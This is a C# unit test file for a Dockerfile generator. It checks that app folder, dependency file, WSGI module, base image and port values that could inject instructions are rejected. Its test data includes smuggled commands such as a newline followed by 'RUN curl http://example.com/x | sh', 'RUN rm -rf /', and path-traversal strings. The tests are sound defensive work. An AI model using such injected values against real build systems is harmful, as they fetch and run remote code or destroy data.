using WebOps.Core.Deployments;
using WebOps.Core.Detection;
using WebOps.Core.Dockerfiles;

namespace WebOps.Tests.Unit.Dockerfiles;

/// <summary>Values that would add or bend Dockerfile instructions never reach the text.</summary>
public class DockerfileInjectionTests
{
    private static DetectionResult Django(string appDir = ".", string wsgi = "mysite.wsgi", params string[] files) => new()
    {
        Type = ProjectType.Django,
        AppDir = appDir,
        WsgiModule = wsgi,
        DependencyFiles = files.Length == 0 ? ["requirements.txt"] : files,
        Reason = "test",
    };

    [Theory]
    [InlineData("../outside")]
    [InlineData("src/../../etc")]
    [InlineData("/etc")]
    [InlineData("src\nRUN curl http://example.com/x | sh")]
    [InlineData("src\"")]
    [InlineData("it's")]
    [InlineData("my site")]
    [InlineData("--from=evil")]
    [InlineData("src\\app")]
    [InlineData("$HOME")]
    [InlineData("")]
    public void Unsafe_app_folder_is_rejected_naming_the_folder(string appDir)
    {
        var ex = Assert.Throws<ArgumentException>(() => DockerfileGenerator.Generate(Django(appDir), new DockerfileOptions()));

        Assert.StartsWith("Detected app folder '", ex.Message, StringComparison.Ordinal);
        Assert.Contains("add your own Dockerfile", ex.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("\n", ex.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("requirements.txt\nRUN rm -rf /")]
    [InlineData("../requirements.txt")]
    [InlineData("req*.txt")]
    public void Unsafe_dependency_file_is_rejected(string file)
    {
        var ex = Assert.Throws<ArgumentException>(
            () => DockerfileGenerator.Generate(Django(".", "mysite.wsgi", file), new DockerfileOptions()));

        Assert.StartsWith("Detected dependency file '", ex.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("mysite.wsgi:application; rm -rf /")]
    [InlineData("mysite.wsgi\" ]\nRUN id")]
    [InlineData("mysite..wsgi")]
    [InlineData(null)]
    public void Unsafe_or_missing_wsgi_module_is_rejected(string? module)
    {
        var detection = Django() with { WsgiModule = module };

        var ex = Assert.Throws<ArgumentException>(() => DockerfileGenerator.Generate(detection, new DockerfileOptions()));

        Assert.StartsWith("Detected WSGI module '", ex.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("python:3.12-slim\nRUN id")]
    [InlineData("python:3.12-slim AS base")]
    [InlineData("--platform=linux/amd64 python")]
    [InlineData("Python:3.12")]
    [InlineData("python:")]
    [InlineData("")]
    public void Unsafe_base_image_is_rejected_naming_the_option(string image)
    {
        var django = new DockerfileOptions { PythonBaseImage = image };
        var site = new DockerfileOptions { StaticBaseImage = image };
        var staticDetection = new DetectionResult { Type = ProjectType.Static, Reason = "test" };

        var djangoError = Assert.Throws<ArgumentException>(() => DockerfileGenerator.Generate(Django(), django));
        var siteError = Assert.Throws<ArgumentException>(() => DockerfileGenerator.Generate(staticDetection, site));

        Assert.StartsWith("Dockerfile option PythonBaseImage '", djangoError.Message, StringComparison.Ordinal);
        Assert.StartsWith("Dockerfile option StaticBaseImage '", siteError.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("python")]
    [InlineData("library/python:3.12-slim")]
    [InlineData("localhost:5000/python:3.12")]
    [InlineData("python@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef")]
    public void Ordinary_image_references_are_accepted(string image)
    {
        var text = DockerfileGenerator.Generate(Django(), new DockerfileOptions { PythonBaseImage = image });

        Assert.Contains($"\nFROM {image}\n", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(65536)]
    public void Port_outside_tcp_range_is_rejected(int port)
    {
        Assert.Throws<ArgumentOutOfRangeException>(
            () => DockerfileGenerator.Generate(Django(), new DockerfileOptions { Port = port }));
    }
}
